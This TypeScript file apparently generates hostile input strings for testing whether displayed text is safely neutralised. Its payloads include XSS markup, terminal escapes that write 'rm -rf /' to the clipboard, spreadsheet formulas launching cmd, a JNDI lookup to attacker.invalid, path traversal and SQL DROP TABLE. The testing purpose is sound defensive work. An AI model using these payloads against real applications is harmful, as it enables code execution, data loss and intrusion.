// Lines that try to act on whoever shows them: markup, terminal commands, reordering, formulas, links, broken bytes.

const ESC = '\u001b';
const PAYLOADS = [
  '<img src=x onerror="globalThis.hacked=1">',
  '<script>globalThis.hacked=1</script>',
  '"><svg/onload=globalThis.hacked=1>',
  "'-globalThis.hacked=1-'",
  '</span></div></main><h1>Owned</h1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<a href="javascript:globalThis.hacked=1">press</a>',
  '<details open ontoggle=globalThis.hacked=1>',
  '&lt;b&gt;&#60;script&#62;',
  '[press](javascript:globalThis.hacked=1) ![x](https://attacker.invalid/x.png)',
  `${ESC}]0;title${'\u0007'}`,
  `${ESC}]8;;https://attacker.invalid${ESC}\\press${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;cm0gLXJmIC8=${'\u0007'}`,
  `${ESC}[2J${ESC}[H${ESC}[31mred${ESC}[0m${ESC}[?1049h`,
  `${ESC}P1$r0m${ESC}\\ ${ESC}_G=x${ESC}\\ ${ESC}c`,
  '\u009b2J\u009d0;c1\u009c',
  'back\b\b\b\bover \u0007bell \u000bvt \u000cff',
  'nul\u0000inside\u0000',
  'early\rlate: what stood before is overwritten',
  '\u202egnp.exe\u202c \u2066isolated\u2069 \u202dforced\u202c',
  '\u061c\u200e\u200f marks \u2067right to left\u2069',
  'zero\u200bwidth\ufeff \u00adsoft \u2060joined',
  'line\u2028separator paragraph\u2029end',
  '\udb40\udc01\udb40\udc41tags\udb40\udc7f',
  '=cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '+1+2',
  '-2+3+cmd|"/C calc"!A0',
  '=HYPERLINK("https://attacker.invalid","press")',
  '{{constructor.constructor("globalThis.hacked=1")()}}',
  `${'$'}{globalThis.hacked=1} #{7*7} <%= 7*7 %>`,
  `${'$'}{jndi:ldap://attacker.invalid/a}`,
  '%s%s%n%x %00 %0a%0d ../../etc/passwd',
  '__proto__ constructor toString {"__proto__":{"hacked":1}}',
  "'; DROP TABLE events; --",
  `Z${'\u0301\u0489\u0336'.repeat(60)} stacked`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} 漢字 ｆｕｌｌ العربية עברית',
  'https://attacker.invalid/?q=1 file:///etc/passwd vscode://file/etc/passwd',
  `tab\tand${' '.repeat(300)}far`,
] as const;

const SHAPES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `req=7f3a ${payload} tail`,
  (payload) => `key=${payload}`,
  (payload) => `"${payload}"`,
  (payload) => payload.repeat(3),
  (payload) => `SomeError: ${payload}`,
  (payload) => `/${payload}/`,
  (payload) => `${'x'.repeat(500)}${payload}`,
  (payload) => `${payload}${payload.split('').reverse().join('')}`,
  (payload) => `\t${payload} ${ESC}`,
  (payload) => `<${payload}>`,
  (payload) => `[${payload}](${payload})`,
  (payload) => `漢字${payload}漢字`,
];

/** Without halves of characters: turning a text around leaves some, and a file cannot hold them. */
function wellFormed(text: string): string {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '?');
}

/** `count` such texts, none twice, none with a line feed. */
export function hostileTexts(count = 500): string[] {
  const texts: string[] = [];
  for (const shape of SHAPES)
    for (const payload of PAYLOADS) if (texts.length < count) texts.push(wellFormed(shape(payload)));
  if (texts.length < count) throw new Error(`There are only ${texts.length} hostile texts.`);
  return texts;
}

/** What acts instead of being read: no shown text may hold one. A line feed and a tab only part. */
export const ACTING_CHARACTER =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
